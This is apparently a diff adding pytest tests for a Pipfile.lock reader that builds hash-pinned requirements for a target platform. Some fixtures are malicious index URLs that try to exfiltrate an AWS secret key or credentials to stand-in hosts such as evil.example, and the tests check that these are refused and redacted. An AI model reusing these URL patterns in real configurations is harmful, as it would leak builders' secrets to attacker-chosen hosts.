@@ -1,0 +1,321 @@
+"""layer_builder.lock: exact, hash-pinned requirements for the target, or a named refusal."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import plette
+import pytest
+
+from layer_builder.errors import LockError, ProjectError
+from layer_builder.lock import IndexPolicy, LockedProject, Requirement, read_lock, redact
+from layer_builder.target import Target
+from tests.lockfactory import fake_hashes, make_project, pinned
+
+MIXED = Path(__file__).resolve().parents[1] / "fixtures" / "projects" / "mixed"
+PY313 = Target("python3.13", "x86_64")
+NO_ENV = IndexPolicy(environ={})
+
+
+def read(root: Path, target: Target = PY313, policy: IndexPolicy = NO_ENV) -> LockedProject:
+    return read_lock(root, target, policy)
+
+
+# --- a real pipenv lock ---------------------------------------------------------------------
+
+def test_pipenv_fixture_reads_for_the_target():
+    locked = read(MIXED)
+    assert [(r.name, r.version, r.index) for r in locked.requirements] == [
+        ("markupsafe", "3.0.3", ""),
+        ("six", "1.17.0", ""),
+    ]
+    assert locked.skipped == (("colorama", "sys_platform == 'win32'"),)
+    lock = json.loads((MIXED / "Pipfile.lock").read_text())
+    assert locked.lock_sha256 == lock["_meta"]["hash"]["sha256"]
+    assert locked.python_version == "3.13"
+    assert locked.warnings == ()
+    six = locked.requirements[1]
+    assert six.hashes == tuple(sorted(lock["default"]["six"]["hashes"]))
+    assert six.line() == "six==1.17.0 " + " ".join(f"--hash={h}" for h in six.hashes)
+
+
+def test_factory_hash_is_what_pipenv_computes():
+    # The factory and pipenv (the fixture) agree on how _meta.hash is computed.
+    with (MIXED / "Pipfile").open() as f:
+        assert plette.Pipfile.load(f).get_hash().value == json.loads(
+            (MIXED / "Pipfile.lock").read_text())["_meta"]["hash"]["sha256"]
+
+
+def test_factory_project_reads(tmp_path):
+    make_project(tmp_path, {"MarkupSafe": pinned("3.0.3"), "six": pinned("1.17.0")})
+    locked = read(tmp_path)
+    assert [r.name for r in locked.requirements] == ["markupsafe", "six"]  # canonical names
+    assert all(r.hashes == tuple(fake_hashes("pkg", r.version)) for r in locked.requirements)
+
+
+def test_develop_section_is_ignored(tmp_path):
+    make_project(tmp_path, develop={"tool": {"git": "https://git.example/tool.git", "ref": "abc"}})
+    assert [r.name for r in read(tmp_path).requirements] == ["six"]
+
+
+# --- files missing, invalid or stale --------------------------------------------------------
+
+def test_stale_lock_is_refused(tmp_path):
+    project = make_project(tmp_path)
+    project.packages["requests"] = pinned("2.32.3")
+    project.write_pipfile()  # Pipfile changed after locking
+    with pytest.raises(LockError, match=r"out of date.*run `pipenv lock`"):
+        read(tmp_path)
+    project.rehash()
+    project.write_lock()
+    read(tmp_path)  # the same lock with the new hash is accepted
+
+
+def test_tampered_meta_hash_is_refused(tmp_path):
+    project = make_project(tmp_path)
+    project.lock["_meta"]["hash"]["sha256"] = "0" * 64
+    project.write_lock()
+    with pytest.raises(LockError, match="run `pipenv lock`"):
+        read(tmp_path)
+
+
+@pytest.mark.parametrize(
+    ("tamper", "names"),
+    [
+        (lambda p: p.pipfile_path.unlink(), "Pipfile not found"),
+        (lambda p: p.lock_path.unlink(), "Pipfile.lock not found"),
+        (lambda p: p.write_pipfile("[packages\nsix = "), "Pipfile is not valid TOML"),
+        (lambda p: p.write_lock("{not json"), "Pipfile.lock is not valid JSON"),
+        (lambda p: p.write_lock("[]"), "Pipfile.lock has no `default`"),
+        (lambda p: p.write_lock('{"_meta": {}}'), "Pipfile.lock has no `default`"),
+        (lambda p: p.write_lock('{"default": {}, "develop": {}}'), "Pipfile.lock has no `_meta`"),
+    ],
+    ids=["no-pipfile", "no-lock", "bad-toml", "bad-json", "json-array", "no-default", "no-meta"],
+)
+def test_missing_or_invalid_files_name_the_file(tmp_path, tamper, names):
+    project = make_project(tmp_path)
+    tamper(project)
+    with pytest.raises(ProjectError, match=names):
+        read(tmp_path)
+
+
+def test_lock_not_in_the_lock_format_is_a_lock_error(tmp_path):
+    project = make_project(tmp_path)
+    del project.lock["_meta"]["sources"]
+    project.write_lock()
+    with pytest.raises(LockError, match="Pipfile.lock does not match the lock format"):
+        read(tmp_path)
+
+
+# --- entries that cannot be installed exactly -----------------------------------------------
+
+GOOD = pinned("1.17.0")
+
+
+@pytest.mark.parametrize(
+    ("entry", "reason"),
+    [
+        ({**GOOD, "version": "*"}, "not pinned with =="),
+        ({**GOOD, "version": ">=1.16"}, "not pinned with =="),
+        ({**GOOD, "version": "==1.*"}, "not pinned with =="),
+        ({"hashes": GOOD["hashes"]}, "not pinned with == \\(got 'nothing'\\)"),
+        ({"version": "==1.17.0"}, "has no hashes"),
+        ({**GOOD, "hashes": []}, "has no hashes"),
+        ({**GOOD, "hashes": ["md5:" + "0" * 32]}, "malformed hash 'md5:0+'"),
+        ({**GOOD, "hashes": ["sha256:XYZ"]}, "malformed hash 'sha256:XYZ'"),
+        ({**GOOD, "hashes": ["sha256:" + "A" * 64]}, "malformed hash"),
+        ({"git": "https://git.example/six.git", "ref": "abc123"}, "git dependency"),
+        ({"path": "./vendor/six"}, "path dependency"),
+        ({"file": "https://files.example/six-1.17.0.tar.gz"}, "file dependency"),
+        ({"editable": True, "path": "."}, "cannot be hash-verified"),
+        ({"hg": "https://hg.example/six"}, "hg dependency"),
+        ("==1.17.0", "is not a table"),
+    ],
+    ids=["star", "gte", "wildcard", "no-version", "no-hashes", "empty-hashes", "md5", "short",
+         "uppercase", "git", "path", "file", "editable", "hg", "string"],
+)
+def test_unverifiable_entries_are_refused_by_name(tmp_path, entry, reason):
+    make_project(tmp_path, {"requests": pinned("2.32.3"), "six": entry})
+    with pytest.raises(LockError, match=reason) as caught:
+        read(tmp_path)
+    assert "default entry 'six'" in str(caught.value)
+
+
+def test_vcs_entry_excluded_by_marker_is_skipped_not_refused(tmp_path):
+    entry = {"git": "https://git.example/w.git", "markers": "sys_platform == 'win32'"}
+    make_project(tmp_path, {"winthing": entry, "six": GOOD})
+    locked = read(tmp_path)
+    assert [r.name for r in locked.requirements] == ["six"]
+    assert locked.skipped == (("winthing", "sys_platform == 'win32'"),)
+
+
+@pytest.mark.parametrize("markers", ["python_version >", "os_name = 'posix'", 5])
+def test_invalid_marker_is_refused_by_name(tmp_path, markers):
+    make_project(tmp_path, {"six": {**GOOD, "markers": markers}})
+    with pytest.raises(LockError, match="entry 'six' has an invalid marker"):
+        read(tmp_path)
+
+
+def test_unknown_index_name_is_refused(tmp_path):
+    make_project(tmp_path, {"six": {**GOOD, "index": "private"}})
+    with pytest.raises(LockError, match="names the index 'private'.*sources \\(pypi\\)"):
+        read(tmp_path)
+
+
+# --- markers are evaluated for the target, never the host ------------------------------------
+
+@pytest.mark.parametrize(
+    ("markers", "target", "kept"),
+    [
+        ("python_version < '3.12'", Target("python3.13"), False),
+        ("python_version < '3.12'", Target("python3.11"), True),
+        ("python_version >= '3.12'", Target("python3.11"), False),
+        ("python_full_version >= '3.13.0'", Target("python3.13"), True),
+        ("sys_platform == 'win32'", Target("python3.13"), False),
+        ("sys_platform == 'linux'", Target("python3.13"), True),
+        ("platform_system == 'Darwin'", Target("python3.13"), False),
+        ("os_name == 'nt'", Target("python3.13"), False),
+        ("platform_machine == 'aarch64'", Target("python3.13", "arm64"), True),
+        ("platform_machine == 'aarch64'", Target("python3.13", "x86_64"), False),
+        ("platform_machine == 'x86_64'", Target("python3.13", "arm64"), False),
+        ("implementation_name == 'cpython'", Target("python3.12"), True),
+        ("platform_python_implementation == 'PyPy'", Target("python3.12"), False),
+    ],
+)
+def test_markers_are_evaluated_for_the_target(tmp_path, markers, target, kept):
+    make_project(tmp_path, {"six": GOOD, "extra-pkg": pinned("1.0", markers=markers)})
+    locked = read(tmp_path, target)
+    names = [r.name for r in locked.requirements]
+    assert ("extra-pkg" in names) is kept
+    assert (("extra-pkg", markers) in locked.skipped) is (not kept)
+
+
+def test_host_values_never_decide(tmp_path, monkeypatch):
+    import platform
+    import sys
+
+    # A marker true on any host running these tests but false on the target ...
+    host = f"{sys.version_info[0]}.{sys.version_info[1]}"
+    other = "python3.11" if host != "3.11" else "python3.12"
+    markers = f"python_version == '{host}' and sys_platform == '{sys.platform}'"
+    make_project(tmp_path, {"hostonly": pinned("1.0", markers=markers)})
+    assert read(tmp_path, Target(other)).requirements == ()
+    # ... and a host that pretends to be another machine changes nothing.
+    monkeypatch.setattr(platform, "machine", lambda: "aarch64")
+    make_project(tmp_path, {"armonly": pinned("1.0", markers="platform_machine == 'aarch64'")})
+    assert read(tmp_path, Target("python3.13", "x86_64")).requirements == ()
+
+
+# --- indexes --------------------------------------------------------------------------------
+
+PRIVATE = {"name": "private", "url": "https://${IDX_USER}:${IDX_TOKEN}@pkgs.example/simple",
+           "verify_ssl": True}
+ENV = {"name": "pypi", "url": "${PIP_INDEX_URL}", "verify_ssl": True}
+
+
+def two_index_project(tmp_path):
+    return make_project(tmp_path, {"six": GOOD, "internal": pinned("0.4", index="private")},
+                        sources=[ENV, PRIVATE])
+
+
+def test_variables_expand_from_the_given_environ(tmp_path):
+    two_index_project(tmp_path)
+    environ = {"PIP_INDEX_URL": "https://mirror.example/simple", "IDX_USER": "bot", "IDX_TOKEN": "t0k"}
+    locked = read(tmp_path, policy=IndexPolicy(environ=environ))
+    assert {r.name: r.index for r in locked.requirements} == {
+        "six": "https://mirror.example/simple",  # unmarked: the first source
+        "internal": "https://bot:t0k@pkgs.example/simple",
+    }
+    assert locked.by_index() == {
+        "https://mirror.example/simple": [locked.requirements[1]],
+        "https://bot:t0k@pkgs.example/simple": [locked.requirements[0]],
+    }
+
+
+def test_dollar_var_without_braces_expands(tmp_path):
+    make_project(tmp_path, sources=[{"name": "pypi", "url": "$MIRROR/simple", "verify_ssl": True}])
+    locked = read(tmp_path, policy=IndexPolicy(environ={"MIRROR": "https://m.example"}))
+    assert locked.requirements[0].index == "https://m.example/simple"
+
+
+def test_unset_bare_variable_means_default_index(tmp_path):
+    make_project(tmp_path)
+    assert read(tmp_path, policy=IndexPolicy(environ={"OTHER": "x"})).requirements[0].index == ""
+    assert read(tmp_path, policy=IndexPolicy(environ={"PIP_INDEX_URL": ""})).requirements[0].index == ""
+
+
+def test_partially_unset_variables_are_refused(tmp_path):
+    two_index_project(tmp_path)
+    with pytest.raises(LockError, match=r"'private'.*\$\{IDX_TOKEN\}.*not set"):
+        read(tmp_path, policy=IndexPolicy(environ={"IDX_USER": "bot"}))
+
+
+def test_override_replaces_every_source(tmp_path):
+    two_index_project(tmp_path)
+    policy = IndexPolicy(override="https://proxy.example/simple", environ={}, allow_lock_urls=False)
+    locked = read(tmp_path, policy=policy)
+    assert {r.index for r in locked.requirements} == {"https://proxy.example/simple"}
+    assert list(locked.by_index()) == ["https://proxy.example/simple"]
+
+
+def test_upload_cannot_choose_a_literal_index(tmp_path):
+    url = "https://user:hunter2@evil.example/simple"
+    make_project(tmp_path, sources=[{"name": "evil", "url": url, "verify_ssl": True}])
+    with pytest.raises(LockError, match="'evil'.*did not allow.*PIP_INDEX_URL") as caught:
+        read(tmp_path, policy=IndexPolicy(environ={}, allow_lock_urls=False))
+    assert "hunter2" not in str(caught.value)
+    assert "***@evil.example" in str(caught.value)
+
+
+def test_upload_cannot_read_the_builders_environment(tmp_path):
+    secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+    url = "https://evil.example/${AWS_SECRET_ACCESS_KEY}"
+    make_project(tmp_path, sources=[{"name": "evil", "url": url, "verify_ssl": True}])
+    environ = {"AWS_SECRET_ACCESS_KEY": secret, "PIP_INDEX_URL": "https://mirror.example/simple"}
+    with pytest.raises(LockError) as caught:
+        read(tmp_path, policy=IndexPolicy(environ=environ, allow_lock_urls=False))
+    assert secret not in str(caught.value)
+    assert "evil.example/${AWS_SECRET_ACCESS_KEY}" in str(caught.value)
+
+
+def test_upload_bare_variable_is_default_index_and_not_expanded(tmp_path):
+    make_project(tmp_path, sources=[{"name": "pypi", "url": "${AWS_SECRET_ACCESS_KEY}", "verify_ssl": True}])
+    environ = {"AWS_SECRET_ACCESS_KEY": "https://leak.example/s3cr3t"}
+    locked = read(tmp_path, policy=IndexPolicy(environ=environ, allow_lock_urls=False))
+    assert locked.requirements[0].index == ""
+
+
+@pytest.mark.parametrize(("lock_python", "warned"), [("3.12", True), ("3.13", False), (None, False)])
+def test_python_version_mismatch_is_a_warning(tmp_path, lock_python, warned):
+    make_project(tmp_path, python_version=lock_python)
+    locked = read(tmp_path)
+    assert locked.python_version == lock_python
+    assert len(locked.warnings) == int(warned)
+    if warned:
+        assert "python_version 3.12" in locked.warnings[0] and "python3.13" in locked.warnings[0]
+
+
+def test_by_index_groups_in_lock_order():
+    reqs = tuple(Requirement(n, "1", ("sha256:" + "0" * 64,), i)
+                 for n, i in [("a", ""), ("b", "https://x.example"), ("c", "")])
+    groups = LockedProject(reqs, (), "", None).by_index()
+    assert groups == {"": [reqs[0], reqs[2]], "https://x.example": [reqs[1]]}
+
+
+@pytest.mark.parametrize(
+    ("url", "expected"),
+    [
+        ("https://user:pass@pkgs.example/simple", "https://***@pkgs.example/simple"),
+        ("https://token@pkgs.example:8443/simple", "https://***@pkgs.example:8443/simple"),
+        ("https://u:p%40ss@pkgs.example/simple?x=1", "https://***@pkgs.example/simple?x=1"),
+        ("https://u:p@ss@pkgs.example/simple", "https://***@pkgs.example/simple"),
+        ("https://u:p@pkgs.example:notaport/simple", "https://***@pkgs.example:notaport/simple"),
+        ("https://u:p@[::1/simple", "https://***@[::1/simple"),
+        ("https://pkgs.example/simple", "https://pkgs.example/simple"),
+        ("https://pkgs.example/a@b", "https://pkgs.example/a@b"),
+        ("${PIP_INDEX_URL}", "${PIP_INDEX_URL}"),
+    ],
+)
+def test_redact(url, expected):
+    assert redact(url) == expected
